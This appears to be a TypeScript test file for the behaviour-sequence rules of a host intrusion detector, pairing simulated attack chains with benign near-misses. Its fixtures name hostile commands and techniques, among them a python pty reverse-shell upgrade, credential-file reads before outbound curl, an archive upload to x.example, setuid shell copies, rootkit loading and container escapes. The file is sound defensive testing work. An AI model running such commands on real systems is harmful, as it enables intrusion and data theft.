import { O, type SyntheticProcess } from '@ringfence/synthetic';
import { EXEC, NOBODY, RAISED, REMOTE, type Scene, testContent, USER } from './support.ts';

const WRITE = O.WRONLY | O.CREAT | O.TRUNC;
const SETID = { mode: 0o104755 };
const PTY = ['python3', '-c', 'import pty; pty.spawn("/bin/sh")'];

const later = (s: Scene, seconds: number): void => {
  s.ktime += seconds * 1_000_000;
};
const write = (s: Scene, words: string, path: string, parent?: SyntheticProcess): void =>
  s.open(s.start(words, parent), path, WRITE);
const read = (s: Scene, words: string, path: string, parent?: SyntheticProcess): void =>
  s.open(s.start(words, parent), path);
const httpd = (s: Scene): SyntheticProcess => s.start('/usr/sbin/httpd', s.init);
const insmod = (s: Scene): SyntheticProcess =>
  s.start('insmod /tmp/rk.ko', s.shell, { filename: '/usr/sbin/insmod' }, '/usr/bin/kmod');
const failed = (s: Scene, count: number): void => {
  for (let n = 0; n < count; n++) s.log('sshd[90]: Failed password for ann from 203.0.113.9 port 4000 ssh2');
};
const accepted = (s: Scene, address = '203.0.113.9'): void =>
  s.log(`sshd[90]: Accepted password for ann from ${address} port 4000 ssh2`);
const created = (s: Scene, name = 'eve'): void =>
  s.log(
    `useradd[90]: new user: name=${name}, UID=1001, GID=1001, home=/home/${name}, shell=/bin/bash, from=/dev/pts/1`,
  );
const refused = (s: Scene, process: SyntheticProcess): void =>
  s.event(process, 'Attempt', {
    operation: 3,
    call: 8,
    result: -1,
    count: 1,
    first: 0n,
    second: 0xffff_ffffn,
    third: 0xffff_ffffn,
  });

testContent('sequences.yaml', {
  'Shell of a server connects out': {
    as: 'critical initial-access command-and-control T1190 T1095',
    fires: {
      'by curl': (s) =>
        s.connect(s.start('/usr/bin/curl u', s.start('/bin/sh -c x', httpd(s), NOBODY)), '203.0.113.9', 443),
    },
    quiet: {
      'to itself': (s) => s.connect(s.start('/usr/bin/curl u', s.start('/bin/sh -c x', httpd(s))), '127.0.0.1', 80),
      'a shell of a person': (s) => s.connect(s.start('/usr/bin/curl u', s.start('/bin/sh -c x')), '203.0.113.9', 443),
      'it has ended': (s) => {
        const shell = s.start('/bin/sh -c x', httpd(s));
        s.exit(shell);
        s.connect(s.start('/usr/bin/curl u', shell), '203.0.113.9', 443);
      },
    },
  },
  'File written by a server, then run': {
    as: 'critical initial-access command-and-control T1190 T1105',
    fires: {
      'an upload': (s) => {
        write(s, '/usr/sbin/php-fpm8.2', '/srv/uploads/x', s.init);
        s.start('/srv/uploads/x');
      },
    },
    quiet: {
      'another file is run': (s) => {
        write(s, '/usr/sbin/php-fpm8.2', '/srv/uploads/x', s.init);
        s.start('/srv/app/x');
      },
      'an hour later': (s) => {
        write(s, '/usr/sbin/php-fpm8.2', '/srv/uploads/x', s.init);
        later(s, 3600);
        s.start('/srv/uploads/x');
      },
    },
  },
  "Server's command looks around, then downloads": {
    as: 'error discovery command-and-control T1082 T1105',
    fires: {
      'in a reverse shell': (s) => {
        for (const words of ['/usr/bin/id', '/usr/bin/uname -a', '/usr/bin/curl u']) s.start(words, s.inside, REMOTE);
      },
    },
    quiet: {
      'the download comes first': (s) => {
        for (const words of ['/usr/bin/curl u', '/usr/bin/id', '/usr/bin/uname -a']) s.start(words, s.inside, REMOTE);
      },
      'a person': (s) => {
        for (const words of ['/usr/bin/id', '/usr/bin/uname -a', '/usr/bin/curl u']) s.start(words);
      },
    },
  },
  'Script put into a web folder, then a shell of the server': {
    as: 'error persistence T1505.003',
    fires: {
      php: (s) => {
        write(s, '/usr/bin/cp a b', '/var/www/html/s.php');
        s.start('/bin/sh -c id', httpd(s), NOBODY);
      },
    },
    quiet: {
      'no shell': (s) => write(s, '/usr/bin/cp a b', '/var/www/html/s.php'),
      'it sends mail': (s) => {
        write(s, '/usr/bin/cp a b', '/var/www/html/s.php');
        s.start(['sh', '-c', '/usr/sbin/sendmail -t -i'], httpd(s), NOBODY, '/usr/bin/dash');
      },
    },
  },
  'Logins guessed, then one that worked': {
    as: 'error credential-access T1110.001',
    fires: {
      'ten, then one': (s) => {
        failed(s, 10);
        accepted(s);
      },
    },
    quiet: {
      mistyped: (s) => {
        failed(s, 3);
        accepted(s);
      },
      'from elsewhere': (s) => {
        failed(s, 20);
        accepted(s, '10.0.0.3');
      },
    },
  },
  'Sudo refused, then allowed': {
    as: 'notice privilege-escalation T1548.003',
    fires: {
      'three times': (s) => {
        for (let n = 0; n < 3; n++)
          s.log('sudo: ann : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id');
        s.log('sudo: ann : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id');
      },
    },
    quiet: {
      once: (s) => {
        s.log('sudo: ann : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id');
        s.log('sudo: ann : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id');
      },
      'allowed each time': (s) => {
        for (let n = 0; n < 5; n++) s.log('sudo: ann : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id');
      },
    },
  },
  'Account made, then given the rights of root': {
    as: 'notice persistence T1136.001 T1098.007',
    fires: {
      'into sudo': (s) => {
        created(s);
        s.log("usermod[91]: add 'eve' to group 'sudo'");
      },
    },
    quiet: {
      'into another group': (s) => {
        created(s);
        s.log("usermod[91]: add 'eve' to group 'audio'");
      },
      'somebody else': (s) => {
        created(s, 'bob');
        s.log("usermod[91]: add 'eve' to group 'sudo'");
      },
    },
  },
  'Account made, then used': {
    as: 'notice persistence initial-access T1136.001 T1078.003',
    fires: {
      'by its name': (s) => {
        created(s, 'ann');
        accepted(s);
      },
    },
    quiet: {
      'by another': (s) => {
        created(s, 'bob');
        accepted(s);
      },
      'before it was made': (s) => {
        accepted(s);
        created(s, 'ann');
      },
    },
  },
  'Key planted, then used': {
    as: 'notice persistence T1098.004',
    fires: {
      'within a minute': (s) => {
        write(s, '/bin/sh -c x', '/root/.ssh/authorized_keys');
        s.log('sshd[90]: Accepted publickey for root from 203.0.113.9 port 4000 ssh2: ED25519 SHA256:abc');
      },
    },
    quiet: {
      'with a password': (s) => {
        write(s, '/bin/sh -c x', '/root/.ssh/authorized_keys');
        accepted(s);
      },
      'a key that was there': (s) =>
        s.log('sshd[90]: Accepted publickey for root from 203.0.113.9 port 4000 ssh2: ED25519 SHA256:abc'),
    },
  },
  'Downloaded script run': {
    as: 'warning execution command-and-control T1059 T1105',
    fires: {
      'by bash': (s) => {
        write(s, '/usr/bin/curl -o /tmp/i.sh u', '/tmp/i.sh');
        s.start('/usr/bin/bash /tmp/i.sh');
      },
    },
    quiet: {
      'it is read': (s) => {
        write(s, '/usr/bin/curl -o /tmp/i.sh u', '/tmp/i.sh');
        s.start('/usr/bin/less /tmp/i.sh');
      },
      'another script': (s) => {
        write(s, '/usr/bin/curl -o /tmp/i.sh u', '/tmp/i.sh');
        s.start('/usr/bin/bash /opt/i.sh');
      },
    },
  },
  'Program in a scratch folder run, then removed': {
    as: 'warning stealth T1070.004',
    fires: {
      'by rm': (s) => {
        write(s, '/usr/bin/curl -o /tmp/x u', '/tmp/x');
        s.start('/tmp/x');
        s.start('/usr/bin/rm -f /tmp/x');
      },
    },
    quiet: {
      'a linker made it': (s) => {
        write(s, '/usr/bin/ld.bfd -o /tmp/conftest', '/tmp/conftest');
        s.start('/tmp/conftest');
        s.start('/usr/bin/rm -f /tmp/conftest');
      },
      'it was not run': (s) => {
        write(s, '/usr/bin/curl -o /tmp/x u', '/tmp/x');
        s.start('/usr/bin/rm -f /tmp/x');
      },
    },
  },
  'Program in a scratch folder made executable, then run': {
    as: 'warning execution T1204.002',
    fires: {
      'by chmod': (s) => {
        write(s, '/usr/bin/wget -O /tmp/x u', '/tmp/x');
        s.start('/usr/bin/chmod +x /tmp/x');
        s.start('/tmp/x');
      },
    },
    quiet: {
      'it was not run': (s) => {
        write(s, '/usr/bin/wget -O /tmp/x u', '/tmp/x');
        s.start('/usr/bin/chmod +x /tmp/x');
      },
      'another is run': (s) => {
        write(s, '/usr/bin/wget -O /tmp/x u', '/tmp/x');
        s.start('/usr/bin/chmod +x /tmp/x');
        s.start('/tmp/y');
      },
    },
  },
  'File in memory made, then run': {
    as: 'critical stealth T1620',
    fires: {
      'by itself': (s) => {
        const process = s.start('/usr/bin/python3 -c x');
        s.event(process, 'Memory', { operation: 1, result: 3, count: 1, path: '/memfd:x' });
        s.exec(process, '/memfd:x', { flags: EXEC.memfd });
      },
    },
    quiet: {
      'it is not run': (s) =>
        s.event(s.start('/usr/bin/python3 -c x'), 'Memory', { operation: 1, result: 3, count: 1, path: '/memfd:x' }),
      'podman builds without a runtime': (s) => {
        const podman = s.start('/usr/bin/podman buildah-chroot-runtime', s.start('/usr/bin/podman build .'));
        s.event(podman, 'Memory', { operation: 1, result: 3, count: 1, path: '/memfd:buildah-chroot-runtime' });
        s.exec(podman, '/memfd:buildah-chroot-runtime', { flags: EXEC.memfd });
      },
      'another program': (s) => {
        const process = s.start('/usr/bin/python3 -c x');
        s.event(process, 'Memory', { operation: 1, result: 3, count: 1, path: '/memfd:x' });
        s.exec(process, '/usr/bin/ls');
      },
    },
  },
  'Execution refused, then done another way': {
    as: 'warning stealth T1218',
    fires: {
      'through the loader': (s) => {
        s.event(s.shell, 'Attempt', { operation: 2, call: 5, result: -13, count: 1, path: '/dev/shm/x' });
        s.start('/usr/lib64/ld-linux-x86-64.so.2 /dev/shm/x');
      },
    },
    quiet: {
      'it was not there': (s) => {
        s.event(s.shell, 'Attempt', { operation: 2, call: 5, result: -2, count: 1, path: '/tmp/x' });
        s.start('/usr/bin/bash /tmp/x');
      },
      'another file': (s) => {
        s.event(s.shell, 'Attempt', { operation: 2, call: 5, result: -13, count: 1, path: '/tmp/x' });
        s.start('/usr/bin/bash /srv/x');
      },
    },
  },
  'Root refused, then had': {
    as: 'critical privilege-escalation T1068',
    fires: {
      'a second try': (s) => {
        const exploit = s.start('/tmp/x', s.shell, USER);
        refused(s, exploit);
        s.credentials(exploit, 0);
      },
    },
    quiet: {
      'it stays so': (s) => refused(s, s.start('/tmp/x', s.shell, USER)),
      'two processes': (s) => {
        refused(s, s.start('/tmp/x', s.shell, USER));
        s.credentials(s.start('/tmp/y', s.shell, USER), 0);
      },
    },
  },
  'Set-user-id program made, then used': {
    as: 'critical privilege-escalation T1548.001',
    fires: {
      'a copy of a shell': (s) => {
        s.change(s.start('/usr/bin/chmod 4755 x'), 'CHMOD', '/var/tmp/sh', SETID);
        s.start('/var/tmp/sh -p', s.shell, { ...RAISED, flags: EXEC.setuid });
      },
    },
    quiet: {
      'another program': (s) => {
        s.change(s.start('/usr/bin/chmod 4755 x'), 'CHMOD', '/var/tmp/sh', SETID);
        s.start('/usr/bin/sudo -s', s.shell, { ...RAISED, flags: EXEC.setuid });
      },
      'root runs it': (s) => {
        s.change(s.start('/usr/bin/chmod 4755 x'), 'CHMOD', '/var/tmp/x', SETID);
        s.start('/var/tmp/x', s.shell, { flags: EXEC.setuid });
      },
    },
  },
  'Raised to root, then a log emptied': {
    as: 'error stealth T1070.002',
    fires: {
      'by the shell': (s) => {
        const shell = s.start('/bin/bash -p', s.shell, RAISED);
        s.open(shell, '/var/log/nginx/access.log', WRITE);
      },
    },
    quiet: {
      'root empties one': (s) => write(s, '/bin/bash', '/var/log/nginx/access.log'),
      'another file': (s) => s.open(s.start('/bin/bash -p', s.shell, RAISED), '/srv/x', WRITE),
    },
  },
  'Way to root looked for in all directions': {
    as: 'warning discovery T1083 T1033',
    fires: {
      'in any order': (s) => {
        for (const words of ['/usr/bin/find / -perm -4000', '/usr/bin/id', '/usr/bin/sudo -l']) s.start(words);
      },
    },
    quiet: {
      'two of them': (s) => {
        for (const words of ['/usr/bin/find / -perm -4000', '/usr/bin/id', '/usr/bin/id']) s.start(words);
      },
      'over the day': (s) => {
        for (const words of ['/usr/bin/find / -perm -4000', '/usr/bin/id', '/usr/bin/sudo -l']) {
          s.start(words);
          later(s, 3600);
        }
      },
    },
  },
  'Key read, then a login elsewhere': {
    as: 'error lateral-movement credential-access T1021.004 T1552.004',
    fires: {
      'by cat': (s) => {
        read(s, '/bin/cat x', '/home/ann/.ssh/id_ed25519');
        s.start('/usr/bin/ssh -i /tmp/k web-2');
      },
    },
    quiet: {
      'ssh reads it': (s) => s.open(s.start('/usr/bin/ssh web-2'), '/root/.ssh/id_ed25519'),
      'another shell': (s) => {
        read(s, '/bin/cat x', '/home/ann/.ssh/id_ed25519');
        s.start('/usr/bin/ssh web-2', s.start('/bin/bash', s.init));
      },
    },
  },
  'Secret read, then a connection to the internet': {
    as: 'error exfiltration credential-access T1048 T1552.001',
    fires: {
      'by curl': (s) => {
        read(s, '/bin/cat x', '/root/.aws/credentials');
        s.connect(s.start('/usr/bin/curl u'), '203.0.113.9', 443);
      },
    },
    quiet: {
      'within the house': (s) => {
        read(s, '/bin/cat x', '/root/.aws/credentials');
        s.connect(s.start('/usr/bin/curl u'), '10.0.0.9', 443);
      },
      'the other way round': (s) => {
        s.connect(s.start('/usr/bin/curl u'), '203.0.113.9', 443);
        read(s, '/bin/cat x', '/root/.aws/credentials');
      },
    },
  },
  'Archive made, then sent away': {
    as: 'warning exfiltration collection T1048 T1560.001',
    fires: {
      'by curl': (s) => {
        s.start('/usr/bin/tar czf /tmp/x.tgz /srv');
        s.start('/usr/bin/curl -T /tmp/x.tgz https://x.example');
      },
    },
    quiet: {
      'it stays': (s) => s.start('/usr/bin/tar czf /tmp/x.tgz /srv'),
      'something is fetched': (s) => {
        s.start('/usr/bin/tar czf /tmp/x.tgz /srv');
        s.start('/usr/bin/curl -o x https://x.example');
      },
    },
  },
  'Guard stopped, then the kernel changed or a log emptied': {
    as: 'critical defense-impairment stealth T1562.001 T1070.002',
    fires: {
      'a module': (s) => {
        s.start('/usr/bin/systemctl stop auditd');
        insmod(s);
      },
      'a log': (s) => {
        s.start('/usr/bin/pkill -9 rsyslogd');
        write(s, '/bin/sh -c x', '/var/log/auth.log');
      },
    },
    quiet: {
      'another service': (s) => {
        s.start('/usr/bin/systemctl stop nginx');
        insmod(s);
      },
      'an hour later': (s) => {
        s.start('/usr/bin/systemctl stop auditd');
        later(s, 3600);
        insmod(s);
      },
    },
  },
  'Module loaded, then its file removed': {
    as: 'critical stealth T1014 T1070.004',
    fires: {
      'by rm': (s) => {
        insmod(s);
        s.start('/usr/bin/rm -f /tmp/rk.ko');
      },
    },
    quiet: {
      'it stays': (s) => insmod(s),
      'a build is cleaned': (s) => s.start('/usr/bin/rm -f driver.ko'),
    },
  },
  'Helper of the kernel named by a container, then run': {
    as: 'critical privilege-escalation T1611',
    fires: {
      'when a cgroup is empty': (s) => {
        write(s, '/bin/sh -c x', '/tmp/c/release_agent', s.inside);
        s.start('/cmd', s.unseen(undefined, 2));
      },
      'when a module is missing, by a worker of the kernel': (s) => {
        const worker = s.snapshot(s.fork(s.init), '', { filename: 'kworker/u8:2' });
        write(s, '/bin/sh -c x', '/proc/sys/kernel/modprobe', s.inside);
        s.start('/cmd', worker);
      },
    },
    quiet: {
      'nothing is run': (s) => write(s, '/bin/sh -c x', '/tmp/c/release_agent', s.inside),
      'a helper of the host': (s) => s.start('/sbin/modprobe -q x', s.unseen(undefined, 2)),
    },
  },
  "Runtime's socket used, then a privileged container": {
    as: 'critical privilege-escalation execution T1611 T1610',
    fires: {
      'by docker': (s) => {
        s.connect(s.start('/usr/bin/curl x', s.inside), '/var/run/docker.sock');
        s.startContainer({ privileged: true });
      },
    },
    quiet: {
      'an ordinary container': (s) => {
        s.connect(s.start('/usr/bin/curl x', s.inside), '/var/run/docker.sock');
        s.startContainer({ privileged: false });
      },
      'from the host': (s) => {
        s.connect(s.start('/usr/bin/docker run'), '/var/run/docker.sock');
        s.startContainer({ privileged: true });
      },
    },
  },
  'Shell in a container by exec, then a download': {
    as: 'notice execution command-and-control T1609 T1105',
    fires: {
      'by kubectl exec': (s) => {
        const first = s.inside;
        const own = { ...first.namespaces, pid: 50, pidInNs: 8 };
        const entered = s.fork(s.start('/usr/bin/runc exec x', s.init), { cgroup: first.cgroup });
        entered.namespaces = own;
        s.exec(entered, '/bin/bash', { tty: 34816 });
        s.start('/usr/bin/curl u', entered);
      },
    },
    quiet: {
      'its own program': (s) => {
        s.start('/bin/sh -c x', s.inside);
        s.start('/usr/bin/curl u', s.inside);
      },
      'on the host': (s) => s.start('/usr/bin/curl u', s.start('/bin/bash', s.shell, { tty: 34816 })),
    },
  },
  'Reverse shell given a terminal': {
    as: 'critical execution T1059.004',
    fires: { 'by python': (s) => s.start(PTY, s.start('/bin/sh', s.inside, REMOTE), REMOTE, '/usr/bin/python3.11') },
    quiet: {
      'a shell of a person': (s) => s.start(PTY, s.shell, {}, '/usr/bin/python3.11'),
      'another program': (s) => s.start('/usr/bin/python3 x.py', s.start('/bin/sh', s.inside, REMOTE), REMOTE),
    },
  },
  'Downloaded program connects to a mining port': {
    as: 'critical impact T1496.001',
    fires: {
      'three steps': (s) => {
        write(s, '/usr/bin/curl -o /tmp/x u', '/tmp/x');
        s.connect(s.start('/tmp/x'), '203.0.113.9', 3333);
      },
    },
    quiet: {
      'to another port': (s) => {
        write(s, '/usr/bin/curl -o /tmp/x u', '/tmp/x');
        s.connect(s.start('/tmp/x'), '203.0.113.9', 443);
      },
      'a program that was there': (s) => s.connect(s.start('/opt/x'), '203.0.113.9', 3333),
    },
  },
  'Process changed, then a connection of its own': {
    as: 'critical stealth privilege-escalation T1055.008',
    fires: {
      'the server of SSH': (s) => {
        s.access(s.start('/tmp/inject'), s.sshd, { request: 4 });
        s.connect(s.sshd, '203.0.113.9', 443);
      },
    },
    quiet: {
      'a debugger': (s) => {
        s.access(s.start('/usr/bin/gdb -p 1'), s.sshd, { request: 4 });
        s.connect(s.sshd, '203.0.113.9', 443);
      },
      'another process connects': (s) => {
        s.access(s.start('/tmp/inject'), s.sshd, { request: 4 });
        s.connect(s.start('/usr/bin/curl u'), '203.0.113.9', 443);
      },
    },
  },
  'Services stopped, then files encrypted': {
    as: 'critical impact T1489 T1486',
    fires: {
      'three, then ten': (s) => {
        for (const name of ['mysql', 'nginx', 'docker']) s.start(`/usr/bin/systemctl stop ${name}`);
        const process = s.start('/tmp/x');
        for (let n = 0; n < 10; n++) s.open(process, `/srv/${n}.locked`, WRITE);
      },
    },
    quiet: {
      'nothing is encrypted': (s) => {
        for (const name of ['mysql', 'nginx', 'docker', 'php']) s.start(`/usr/bin/systemctl stop ${name}`);
      },
      'one lock': (s) => {
        for (const name of ['mysql', 'nginx', 'docker']) s.start(`/usr/bin/systemctl stop ${name}`);
        write(s, '/usr/bin/apt-get update', '/var/lib/x.lock');
      },
    },
  },
  'Ports tried, then a login': {
    as: 'warning lateral-movement discovery T1021.004 T1046',
    fires: {
      'of a neighbour': (s) => {
        const process = s.start('/tmp/x');
        for (let port = 1; port <= 15; port++) s.connect(process, '10.0.0.9', port, { result: -111 });
        s.connect(process, '10.0.0.9', 22);
      },
    },
    quiet: {
      'a few': (s) => {
        const process = s.start('/usr/bin/ssh x');
        for (let n = 0; n < 3; n++) s.connect(process, '10.0.0.9', 22, { result: -111 });
        s.connect(process, '10.0.0.9', 22);
      },
      'a service for everybody': (s) => {
        const process = s.start('/usr/bin/firefox');
        for (let port = 1; port <= 15; port++) s.connect(process, '10.0.0.9', port, { result: -111 });
        s.connect(process, '10.0.0.9', 443);
      },
    },
  },
});
